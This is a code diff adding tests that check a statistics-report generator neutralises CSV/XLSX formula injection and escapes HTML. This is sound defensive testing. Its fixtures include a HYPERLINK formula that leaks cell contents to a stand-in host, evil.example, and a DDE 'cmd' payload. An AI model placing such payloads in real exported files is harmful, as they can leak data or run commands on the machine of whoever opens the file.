@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -402,3 +403,66 @@ def test_index_tables_and_gaps(tmp_path):
     with pytest.raises(CaseloadError, match="empty count in row 2"):
         write_report(gap, tmp_path / "r")
     assert (out / "tables" / "idx.csv").is_file()
+
+
+# ------------------------------------------------------------------ no live formulas (issue 11)
+
+_EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+def test_text_that_starts_a_formula_is_neutralised_in_csv_and_xlsx(tmp_path):
+    """A dropout reason or a title starting with = + - @ (or TAB/CR) is text in CSV and XLSX."""
+    reasons = pd.DataFrame({
+        "reden": [_EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-", "Werk",
+                  "-3", "  =1", "\r-2+3"],
+        "aantal": [10, 20, 30, 40, 50, 60, 70, 80, 90],
+        "saldo": [-5.5, 1.25, -0.5, 2.0, 3.0, -1.75, 0.5, 1.0, 2.5],
+    })
+    pub = Publication(_EVIL, PEIL, "@bron", min_cell=5)
+    pub.notes.append("-- toelichting met streepjes")
+    pub.add_table("uitval_redenen", reasons, title="+titel", method="=1+1", counts=["aantal"],
+                  decimals=2, labels={"reden": "=Reden"})
+    out = write_report(pub, tmp_path / "r").out_dir
+    with open(out / "tables" / "uitval_redenen.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["'=Reden", "aantal", "saldo"]
+    assert [r[0] for r in rows[1:9]] == ["'" + _EVIL, "'+cmd|' /C calc'!A0", "'@SUM(1+1)",
+                                         "'\t=1+1", "'-", "Werk", "-3", "'  =1"]
+    # (csv's writer leaves a field with a CR unquoted, so a reader splits that line: check bytes.)
+    assert b"\n'\r-2+3,90," in (out / "tables" / "uitval_redenen.csv").read_bytes()
+    # Numbers stay numbers: negative amounts are written as numbers, not quoted.
+    assert rows[1][2] == "-5.50" and rows[3][2] == "-0.50"
+    wb = load_workbook(out / "tabellen.xlsx")
+    formulas = [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == []
+    ws = wb["uitval_redenen"]
+    assert ws["A1"].value == "=Reden" and ws["A1"].quotePrefix
+    assert ws["A2"].value == _EVIL and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
+    assert ws["A7"].value == "Werk" and not ws["A7"].quotePrefix
+    assert ws["A10"].value.endswith("-2+3") and ws["A10"].quotePrefix  # XML reads CR as LF
+    assert ws["C2"].value == -5.5 and ws["C2"].data_type == "n"
+    notes = wb["Toelichting"]
+    title = notes["A1"]
+    assert title.value == _EVIL and title.data_type == "s" and title.quotePrefix
+    texts = {c.value: c for row in notes.iter_rows() for c in row if isinstance(c.value, str)}
+    assert texts["+titel"].quotePrefix and texts["=1+1"].quotePrefix
+    assert texts["-- toelichting met streepjes"].quotePrefix
+    # HTML stays escaped: the text is shown, nothing is made a link or markup.
+    html = (out / "index.html").read_text(encoding="utf-8")
+    assert '<a href="http://evil' not in html and "HYPERLINK(&quot;" in html
+
+
+def test_neutralise_frame_keeps_numbers_and_types():
+    from caseload.publish.safe import neutralise_frame
+
+    df = pd.DataFrame({"t": pd.array(["=a", None, "b"], dtype="string"), "n": [-1, 2, -3],
+                       "c": pd.Categorical(["-x", "y", "-x"]), "o": [-4, "=b", None]})
+    out = neutralise_frame(df)
+    assert out["t"].tolist()[0] == "'=a" and pd.isna(out["t"].iloc[1]) and out["t"].dtype == "string"
+    assert out["n"].tolist() == [-1, 2, -3] and out["n"].dtype == df["n"].dtype
+    assert out["c"].tolist() == ["'-x", "y", "'-x"]
+    assert out["o"].tolist()[:2] == [-4, "'=b"]
+    assert df["t"].iloc[0] == "=a"  # the input is not changed
+    clean = pd.DataFrame({"t": ["a", "-2,5"], "n": [1, 2]})
+    assert neutralise_frame(clean) is clean
